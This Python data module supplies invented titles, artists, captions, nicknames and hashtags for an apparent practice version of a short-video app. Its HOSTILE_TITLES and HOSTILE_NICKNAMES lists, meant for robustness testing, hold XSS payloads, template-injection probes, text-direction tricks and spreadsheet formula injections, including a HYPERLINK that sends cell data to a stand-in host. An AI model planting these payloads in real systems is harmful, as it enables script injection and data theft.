"""The words of the practice world: titles, artists, captions, names. All invented, some of them hostile on purpose."""
# ruff: noqa: RUF001 - many scripts are meant to stand here

TITLES: tuple[str, ...] = (
    "Glass Lemonade", "Midnight Laundromat", "Call Me Tuesday", "Sugar on the Dashboard", "Paper Lanterns",
    "Borrowed Sneakers", "Half a Moon", "Velvet Parking Lot", "Tangerine Static", "Slow Elevator",
    "Porcelain Heart", "Rooftop Weather", "Wrong Side of July", "Cherry Cola Sky", "Polaroid Summer",
    "Pretend I'm Fine", "Neon Groceries", "Two Left Feet", "Salt & Honey", "Ghost in the Group Chat",
    "Last Train to Somewhere", "Bluebird Season", "Hotel Lobby Piano", "Soft Launch", "Kerosene Kisses",
    "Marble Staircase", "Under the Overpass", "Don't Text First", "Golden Retriever Energy", "Satellite Street",
    "Dandelion Clock", "Backseat Confession", "Lavender Motel", "Run It Slower", "Saturday Ceramics",
    "Aquarium Light", "Little Riot", "Carousel Money", "Window Seat", "Tiny Earthquakes",
    "Strawberry Passport", "Everything Is Chrome", "Low Tide", "Museum Hours", "Thunder in the Kitchen",
    "Bicycle Bells", "Fluorescent Love", "Nobody's Birthday", "Campfire Algorithm", "Peach Tree Road",
    "Silver Thermos", "Afterparty Dishes", "Hold the Mirror", "Cardigan Weather", "Echo Lake",
    "Honest Work", "Dial Tone Lullaby", "Ferris Wheel Logic", "Rain Check", "Copper Penny",
)  # fmt: skip
TITLE_FIRST: tuple[str, ...] = (
    "Amber", "Broken", "Cinder", "Distant", "Electric", "Faded", "Gentle", "Hollow", "Ivory", "Jaded", "Kinder",
    "Lucky", "Misty", "Northern", "Open", "Plastic", "Quiet", "Restless", "Scarlet", "Tender", "Unsent", "Violet",
)  # fmt: skip
TITLE_SECOND: tuple[str, ...] = (
    "Antenna", "Balcony", "Compass", "Driveway", "Engine", "Firefly", "Garden", "Harbour", "Island", "Jukebox", "Kite",
    "Lighthouse", "Mixtape", "Notebook", "Orchard", "Postcard", "Question", "River", "Signal", "Telephone", "Umbrella",
)  # fmt: skip
ARTIST_FIRST: tuple[str, ...] = (
    "Marlo", "Tessa", "Ilka", "Dario", "Nuri", "Sable", "Okwui", "Linnea", "Rafa", "Yumi", "Petra", "Kofi",
    "Zaya", "Benno", "Imani", "Soren", "Delphi", "Anouk", "Tomas", "Mei", "Jory", "Hale", "Priya", "Cato",
    "Noor", "Elio",
)  # fmt: skip
ARTIST_SECOND: tuple[str, ...] = (
    "Venn", "Okafor-Lind", "Tesselaar", "Quillon", "Marchetta", "Arendt-Wu", "Solbakke", "Imura", "Castellvi",
    "Brandao", "Kestrelle", "Vantas", "Oduyale", "Halvorsen-Ray", "Peredo", "Nakaoka", "Lorentzi",
    "Faircloth-Diaz", "Moreaux", "Sarkany",
)  # fmt: skip
BANDS: tuple[str, ...] = (
    "Paper Giraffe Club", "The Velour Tides", "Kiosk Romance", "Night Bus Choir", "Cloudberry Kids",
    "Salon Nowhere", "Minor Holidays", "Tin Roof Orchestra", "The Cassette Gardeners", "Pale Ferry",
    "Second Breakfast Society", "DJ Kumquat",
)  # fmt: skip
ORIGINAL_SOUND: dict[str, str] = {
    "en": "original sound", "es": "sonido original", "pt": "som original", "fr": "son original",
    "de": "Originalton", "it": "suono originale", "sv": "originalljud", "pl": "oryginalny dźwięk",
    "tr": "orijinal ses", "uk": "оригінальний звук", "ar": "الصوت الأصلي", "id": "suara asli", "vi": "nhạc nền",
    "th": "เสียงต้นฉบับ", "ja": "オリジナル楽曲", "ko": "오리지널 사운드", "zh": "原聲",
}  # fmt: skip
VERSION_TITLES: dict[str, tuple[str, ...]] = {
    "sped up": ("{title} (Sped Up)", "{title} - sped up version", "{title} (sped up + pitched)"),
    "slowed": ("{title} (slowed + reverb)", "{title} - Slowed"),
    "remix": ("{title} (Club Remix)", "{title} - DJ Kumquat Remix"),
    "live": ("{title} (Live at the Greenhouse)",),
}
HOSTILE_TITLES: tuple[str, ...] = (
    "<script>alert('sound')</script>",
    '=HYPERLINK("http://sandbox.invalid/?"&A1,"Click me")',
    "\u202etrap eht fo dne\u202c",
    "**bold** [link](http://sandbox.invalid) `code` <b>x</b> | a | b |",
    "Extremely Long Title " + "la " * 150,
)
HOSTILE_NICKNAMES: tuple[str, ...] = (
    "<img src=x onerror=alert(1)>", "=1+1", "+SUM(A1:A9)", "@everyone", "\u202eleets\u202c", "*_~`name`~_*",
    "a" * 240, "line\nbreak", "{{7*7}}", "&lt;b&gt; & 'quotes\"",
)  # fmt: skip
NICKNAMES: dict[str, tuple[str, ...]] = {
    "en": ("mia ✨", "Jordan", "ollie cooks", "Kayla 🎧", "the tea lady", "sam.", "Big Rob"),
    "es": ("Lucía 🌸", "Mateo", "la vecina", "Sofi 💃", "el profe", "Nico"),
    "pt": ("Duda ✨", "João", "Bia 🎶", "Rafinha", "dona Cida"),
    "fr": ("Chloé", "Théo 🥐", "Inès ✨", "Léo"),
    "de": ("Lena", "Jonas 🎸", "Mimi ✨", "Tante Erna"),
    "it": ("Giulia 🍋", "Matteo", "nonna Pina"),
    "sv": ("Elsa", "Åsa ✨", "Gustav"),
    "pl": ("Zosia", "Kuba 🎧", "Łucja"),
    "tr": ("Elif ✨", "Can", "Zeynep 🌙"),
    "uk": ("Оля 🌻", "Тарас", "Соломія"),
    "ar": ("نور ✨", "يوسف", "سارة 🌙"),
    "id": ("Putri ✨", "Bagas", "Dewi 🎶"),
    "vi": ("Linh ✨", "Minh", "Hoài Thương", "Bé Na 🐯"),
    "th": ("น้องมิ้น", "ปลา ✨", "Bank"),
    "ja": ("ひなみ🍑", "ゆうと", "さくら✿"),
    "ko": ("지은 ✨", "민준", "하늘"),
    "zh": ("小美", "阿翔", "奶茶控 🧋"),
}
CAPTIONS: dict[str, tuple[str, ...]] = {
    "en": (
        "wait for it",
        "POV: it's finally friday",
        "I can't stop listening to this 😭",
        "day 3 of trying this",
        "",
        "ok but why is this so good",
    ),
    "es": ("no puedo parar 😂", "esperen al final", "así empezó todo", "", "quién más?"),
    "pt": ("não consigo parar de ouvir 😭", "espera até o final", "", "marca aquela amiga"),
    "fr": ("attendez la fin", "j'adore ce son 😍", ""),
    "de": ("wartet bis zum Ende", "Ohrwurm des Tages", ""),
    "it": ("aspettate la fine", "troppo bella questa", ""),
    "sv": ("vänta på slutet", "bästa låten"),
    "pl": ("czekaj do końca", "ta piosenka 😭"),
    "tr": ("sonunu bekleyin", "bu şarkı çok güzel 😍"),
    "uk": ("дочекайтесь кінця", "не можу зупинитись 😭"),
    "ar": ("انتظروا النهاية", "هذا الصوت 😍", ""),
    "id": ("tunggu sampai akhir", "lagunya enak banget 😭", ""),
    "vi": ("chờ tới cuối nhé", "nghe hoài không chán 😭", ""),
    "th": ("รอดูตอนจบ", "เพลงนี้ดีมาก 😭"),
    "ja": ("最後まで見てね", "この曲すき🥹", ""),
    "ko": ("끝까지 봐주세요", "이 노래 중독 😭"),
    "zh": ("看到最後", "這首歌太好聽了 😭"),
}
CROWD_HASHTAGS: dict[str, tuple[str, ...]] = {
    "en": ("fyp", "foryou", "viral", "xyzbca", "newmusic"),
    "es": ("parati", "fyp", "viral", "musica"),
    "pt": ("paravocê", "fy", "viral", "foryou"),
    "fr": ("pourtoi", "fyp", "musique"),
    "de": ("fürdich", "fyp", "ohrwurm"),
    "it": ("perte", "neiperte", "fyp"),
    "sv": ("fördig", "fyp"),
    "pl": ("dlaciebie", "fyp", "muzyka"),
    "tr": ("keşfet", "fyp", "öneçıkar"),
    "uk": ("рекомендації", "fyp", "українськийтікток"),
    "ar": ("اكسبلور", "fyp", "فولو"),
    "id": ("fypシ", "berandatiktok", "viral"),
    "vi": ("xuhuong", "fyp", "nhachaymoingay"),
    "th": ("ฟีด", "เพลงฮิต", "fyp"),
    "ja": ("おすすめ", "fyp", "音楽好きな人と繋がりたい"),
    "ko": ("추천", "fyp", "노래추천"),
    "zh": ("推薦", "fyp", "音樂"),
}
HASHTAGS: tuple[str, ...] = (
    "rainyroomvlog", "ceramicstok", "cozygamercorner", "sundayresetlist", "outfitrewind", "夜カフェ巡り",
    "cocinaenminutos", "plantshelfie", "커피일상기록", "bookstackcheck", "рецептнавечір", "thriftflipdaily",
    "treinoemcasa30", "وصفاتسريعة", "gardenrevival", "deskmakeover", "dancepracticeloop", "bakewithme365",
    "trainwindowview", "studysprint",
)  # fmt: skip
HASHTAG_FIRST: tuple[str, ...] = (
    "morning", "vintage", "pocket", "winter", "budget", "hidden", "tiny", "analog", "late", "urban",
)  # fmt: skip
HASHTAG_SECOND: tuple[str, ...] = (
    "kitchen", "closet", "studio", "balcony", "journal", "market", "workout", "sketch", "radio", "picnic",
)  # fmt: skip
HANDLE_WORDS: tuple[str, ...] = (
    "lunavibes", "dancewith", "itsnoor", "cafe.diary", "thatgirl", "loopking", "mika", "vinylcat", "sunnyside",
    "studio", "papaya", "the.real", "daily", "kpopcorn", "moonmilk", "beatlab", "casa", "sora", "pixel", "juno",
)  # fmt: skip
SIGNATURES: tuple[str, ...] = (
    "",
    "✨ just for fun",
    "business 📩 hello@sandbox.invalid",
    "new video every day",
    "music · food · cats",
)
INTERESTS: tuple[str, ...] = (
    "Dance",
    "Comedy Skits",
    "Daily Vlogs",
    "Outfits",
    "Recipes",
    "Pets",
    "Lip-sync",
    "Sports Clips",
)
